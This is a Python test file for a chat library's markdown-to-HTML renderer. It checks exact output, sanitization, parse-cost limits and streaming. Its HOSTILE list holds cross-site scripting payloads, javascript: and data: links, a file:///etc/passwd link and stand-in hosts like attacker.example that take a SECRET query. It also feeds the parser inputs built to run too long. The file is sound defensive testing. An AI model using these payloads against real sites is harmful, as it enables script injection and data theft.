"""Markdown becomes HTML that is safe: exact output, hostile input, bounds that are counted and not timed."""

import re
from html.parser import HTMLParser

import pytest

from chatkit.conversation.conversation import Message
from chatkit.render import markdown
from chatkit.render.blocks import BLANK_LIMIT, BLOCK_LIMIT, PIPE_LIMIT, TEXT_LIMIT, GrowingText, blocks, render
from chatkit.render.html import STYLE, conversation_html
from chatkit.render.text import plain, tame

LINK = 'target="_blank" rel="noopener noreferrer"'
ALLOWED = markdown.TEXT_TAGS | markdown.MATH_TAGS
ATTRIBUTES = {"href", "target", "rel", "class", "start", "tabindex"} | markdown.MATH_ATTRIBUTES


class Reader(HTMLParser):
    """Collects every tag and attribute, as a browser would see them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs

    handle_startendtag = handle_starttag


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("", ""),
        ("a *b* **c** ~~d~~ `e`", "<p>a <em>b</em> <strong>c</strong> <s>d</s> <code>e</code></p>\n"),
        ("# T\n\np", "<h1>T</h1>\n<p>p</p>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("3. a", '<ol start="3">\n<li>a</li>\n</ol>\n'),
        ("> q", "<blockquote>\n<p>q</p>\n</blockquote>\n"),
        ("a\r\nb", "<p>a\nb</p>\n"),
        ("1 < 2 & 3", "<p>1 &lt; 2 &amp; 3</p>\n"),
        (
            "|a|b|\n|:-:|-:|\n|1|2|",
            '<div class="ck-scroll"><table>\n<thead>\n<tr>\n<th class="ck-center">a</th>\n<th class="ck-right">b</th>\n'
            '</tr>\n</thead>\n<tbody>\n<tr>\n<td class="ck-center">1</td>\n<td class="ck-right">2</td>\n</tr>\n</tbody>\n'
            "</table></div>\n",
        ),
        (
            "```python\nx = 1\n```",
            '<pre class="ck-code" tabindex="0"><code><span class="n">x</span> <span class="o">=</span> '
            '<span class="mi">1</span>\n</code></pre>\n',
        ),
        ("```nolang\n<b>\n```", '<pre class="ck-code" tabindex="0"><code>&lt;b&gt;\n</code></pre>\n'),
        ("```\nopen", '<pre class="ck-code" tabindex="0"><code>open</code></pre>\n'),
        (
            "x $a^2$ y",
            '<p>x <math display="inline"><mrow><msup><mi>a</mi><mn>2</mn></msup></mrow></math> y</p>\n',
        ),
        ("\\(b\\)", '<p><math display="inline"><mrow><mi>b</mi></mrow></math></p>\n'),
        ("\\[b\\]", '<p><math display="block"><mrow><mi>b</mi></mrow></math></p>\n'),
        (
            "$$\nb\n$$",
            '<div class="ck-math"><math display="block"><mrow><mi>b</mi></mrow></math></div>\n',
        ),
        ("costs $5 and $6", "<p>costs $5 and $6</p>\n"),
        ("a \\(b", "<p>a (b</p>\n"),
        ("<https://a.example>", f'<p><a href="https://a.example" {LINK}>https://a.example</a></p>\n'),
        (
            "[t](https://a.example/b)",
            f'<p><a href="https://a.example/b" {LINK}>t</a> <span class="ck-host">(a.example)</span></p>\n',
        ),
        (
            "[t][r]\n\n[r]: mailto:a@b.example",
            f'<p><a href="mailto:a@b.example" {LINK}>t</a> <span class="ck-host">(a@b.example)</span></p>\n',
        ),
        (
            "![x](https://attacker.example/?q=SECRET)",
            f'<p><a href="https://attacker.example/?q=SECRET" {LINK}>image: x</a> '
            '<span class="ck-host">(attacker.example)</span></p>\n',
        ),
    ],
)
def test_markdown_becomes_this_html(text: str, html: str):
    assert render(text) == html


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.example><button>go</button></form>",
    "<button data-commandlinker-command='filebrowser:delete' data-commandlinker-args='{}'>x</button>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<object data=https://evil.example></object>",
    "<embed src=https://evil.example>",
    "<video src=https://evil.example autoplay></video>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<template><script>alert(1)</script></template>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "</div></section><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a.example/1)",
    "[x](/lab?reset)",
    "[x](//evil.example)",
    "[x](#anchor)",
    "[x](?reset)",
    "<javascript:alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example" onclick="alert(1))',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![<script>alert(1)</script>](https://evil.example)",
    '```"><script>alert(1)</script>\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\url{javascript:alert(1)}$",
    "$\\style{position:fixed}{x}$",
    "$\\class{jp-Button}{x}$",
    "$\\unicode{<script>}$",
    '$\\color{red" onclick="alert(1)}{x}$',
    "$$\n\\text{</math><script>alert(1)</script>}\n$$",
    "\\(\\mathrm{<svg/onload=alert(1)>}\\)",
    "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<script>\x00alert(1)</script>",
    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_leaves_nothing_that_acts(text: str):
    for html in (render(text), render(f"- {text}"), "".join(growing_by(text, 1).html)):
        read = Reader(html)
        assert set(read.tags) <= ALLOWED
        assert {name for name, _ in read.attributes} <= ATTRIBUTES
        for name, value in read.attributes:
            if name == "href":
                assert re.match(r"(https?://|mailto:)", value or "")
            if name == "class":
                assert set((value or "").split()) <= markdown.CODE_CLASSES | {
                    *("ck-code", "ck-plain", "ck-host", "ck-mark", "ck-math", "ck-scroll", "ck-center", "ck-right")
                }


def test_a_link_always_shows_where_it_leads():
    html = render("[https://good.example](https://evil.example) [d](https://good.example\\@evil.example/)")
    assert re.findall(r"\(([^)]*)\)</span>", html) == ["evil.example", "evil.example"]


def test_terminal_escapes_go_and_turned_text_is_shown():
    assert tame("a\x1b[31mred\x1b[0m \x1b]8;;http://x\x1b\\link\x9b\x07") == "ared link"
    assert render("a\u202eb") == '<p>a<span class="ck-mark">U+202E</span>b</p>\n'
    assert render("`a\u200bb`") == '<p><code>a<span class="ck-mark">U+200B</span>b</code></p>\n'
    assert plain("a\u2066<b>") == '<pre class="ck-plain">a<span class="ck-mark">U+2066</span>&lt;b&gt;</pre>'


def test_blocks_joined_are_the_text():
    text = "# T\n\npara\nmore\n\n- a\n\n- b\n\n```\ncode\n```\n\n|a|\n|-|\n|b|\n\n\nend"
    found = blocks(text)
    assert "".join(block.source for block in found) == text
    assert [re.match(r"<\w+", block.html)[0] for block in found] == ["<h1", "<p", "<ul", "<pre", "<div", "<p"]


def growing_by(text: str, step: int) -> GrowingText:
    answer = GrowingText()
    for start in range(0, len(text), step):
        answer.feed(text[start : start + step])
    answer.finish()
    return answer


RICH = "# T\n\nIt *was* in **Brazil**.\n\n1. a\n2. b\n\n```python\nx = 1\n```\n\n|a|b|\n|-|-|\n|1|2|\n\n$$\nx\n$$\n\n> q\n\n[t][r]\n\n[r]: https://a.example\n\nend 😀"


@pytest.mark.parametrize("step", [1, 2, 3, 7, 50, 1000])
def test_a_text_that_grows_ends_as_the_whole_text(step: int):
    answer = growing_by(RICH, step)
    assert "".join(answer.html) == render(RICH)
    assert answer.text == RICH


def test_a_text_that_grows_lays_out_only_what_can_still_change():
    answer = GrowingText()
    answer.feed("first\n\nsecond")
    assert answer.feed(" more") == [(1, "<p>second more</p>\n")]
    assert answer.feed("\n\nthird") == [(2, "<p>third</p>\n")]
    assert answer.finish() == []


def test_a_link_whose_address_comes_last_is_mended_at_the_end():
    answer = GrowingText()
    answer.feed("see [t][r]\n\nmore\n\n[r]: https://a.example\n")
    answer = growing_by("see [t][r]\n\nmore\n\n[r]: https://a.example\n", 4)
    assert "https://a.example" in answer.html[0]


def parsed(monkeypatch: pytest.MonkeyPatch, text: str) -> int:
    """How many characters of a text were given to the parser of markdown."""
    given: list[int] = []
    original = markdown._MARKDOWN.parse
    monkeypatch.setattr(
        markdown._MARKDOWN, "parse", lambda source, env: given.append(len(source)) or original(source, env)
    )
    render(text)
    return sum(given)


@pytest.mark.parametrize(
    ("text", "limit"),
    [
        ("|a|b|\n|-|-|\n" + "|x|y|\n" * 170_000, 3 * PIPE_LIMIT),
        ("word " * 200_000, 0),
        ("[" * 100_000, 0),
        ("![](" * 25_000, 0),
        ("*a_ " * 25_000, 0),
        ("a\n\n" * 100_000, 3 * (BLANK_LIMIT + 1)),
        ("ab c\n\n" + "word word\n" * 8 + "\n" * 2 + "more\n\n" * 30_000, TEXT_LIMIT),
        (("[" * 9_000 + "\n\n") * 10, 0),
        ("![" * 4_500, 0),
        (("|a|b|\n|-|-|\n" + "|x|y|\n" * 300 + "\n") * 40, 3 * PIPE_LIMIT),
    ],
)
def test_what_would_take_long_is_shown_as_plain_text(monkeypatch: pytest.MonkeyPatch, text: str, limit: int):
    assert parsed(monkeypatch, text) <= limit
    html = render(text)
    assert '<pre class="ck-plain">' in html


@pytest.mark.parametrize(
    "text",
    [
        ">" * 5_000 + "a",
        "\n".join(">" * n + "a" for n in range(130)),
        "- " * 5_000 + "a",
        "*" * 9_000,
        "`" * 9_000,
        "$" + "{" * 900 + "$",
        "$" + "\\frac{" * 150 + "$",
        "$" + "x^" * 400 + "$",
        "[" * 400 + "]" * 400,
        "```python\n" + "'" * 15_000,
        "```" + "x" * 9_000,
        "&" * 9_000,
    ],
)
def test_nested_and_unclosed_input_comes_back_whole(text: str):
    html = render(text)
    assert len(html) < 60 * len(text) + 10_000


def test_code_that_is_too_long_is_shown_without_colours():
    short, long = render("```python\nx = 1\n```"), render("```python\n" + "x = 1\n" * 10_000 + "```")
    assert ("<span" in short, "<span" in long) == (True, False)
    assert long.count("x = 1") == 10_000


def test_a_long_fence_is_code_and_what_surrounds_it_is_laid_out():
    text = "**a**\n\n```\n" + "line\n" * (BLOCK_LIMIT // 4) + "```\n\n**b**\n"
    html = render(text)
    assert html.startswith("<p><strong>a</strong></p>\n<pre")
    assert html.endswith("</pre>\n<p><strong>b</strong></p>\n")


def test_math_that_cannot_be_read_is_shown_as_it_is():
    assert render("$\\frac{$") == "<p><code>\\frac{</code></p>\n"
    assert render(f"${'a' * 1001}$") == f"<p><code>{'a' * 1001}</code></p>\n"


def test_a_conversation_becomes_clean_html():
    messages = [
        Message("system", "Be <b>brief</b>."),
        Message("user", "*Where?*", id="u", enabled=False),
        Message("assistant", "In *Brazil*", id="a", outcome="cancelled"),
    ]
    html = conversation_html(messages, captions={"a": "7 + 2 tokens"}, title='A "talk"')
    assert html.startswith(f"<style>{STYLE}</style>")
    assert html.removeprefix(f"<style>{STYLE}</style>") == (
        '<section class="ck-conversation mathjax_ignore tex2jax_ignore" aria-label="A &quot;talk&quot;">'
        '<article class="ck-message ck-role-system"><header class="ck-role">system</header>'
        '<div class="ck-text" dir="auto"><pre class="ck-plain">Be &lt;b&gt;brief&lt;/b&gt;.</pre></div></article>'
        '<article class="ck-message ck-role-user ck-off"><header class="ck-role">user · not sent</header>'
        '<div class="ck-text" dir="auto"><pre class="ck-plain">*Where?*</pre></div></article>'
        '<article class="ck-message ck-role-assistant"><header class="ck-role">assistant · cancelled</header>'
        '<div class="ck-text" dir="auto"><p>In <em>Brazil</em></p>\n</div>'
        '<footer class="ck-caption">7 + 2 tokens</footer></article></section>'
    )
